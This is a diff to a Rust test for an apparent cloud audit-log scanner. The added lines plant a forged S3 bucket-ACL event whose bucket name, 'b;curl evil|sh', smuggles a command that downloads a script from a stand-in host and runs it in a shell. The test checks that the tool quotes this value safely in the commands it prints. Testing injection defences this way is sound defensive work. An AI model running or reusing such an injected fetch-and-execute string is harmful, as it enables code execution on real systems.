@@ -150,6 +150,11 @@ fn hostile_values_never_steer_the_terminal() {
     let out = folder.path().join("out");
     let ran = scan(&[folder.path().join("logs")], &out, &[]);
     assert!(ran.out.contains("S3 bucket opened to everyone"), "{}", ran.out);
+    let forged = json!({"eventName": "PutBucketAcl", "requestParameters":
+        {"bucketName": "b;curl evil|sh", "x-amz-acl": "public-read"}});
+    write(folder.path(), "shell/a.json", &document(&[record(0, &forged)]));
+    let shell = scan(&[folder.path().join("shell")], &out, &[]);
+    assert!(shell.out.contains("--bucket 'b;curl evil|sh'"), "{}", shell.out);
     // Our own styles are the only escape sequences: ESC [ digits m.
     let plain = ran.out.split('\u{1b}').skip(1).all(|rest| {
         let end = rest.find('m').unwrap_or(0);
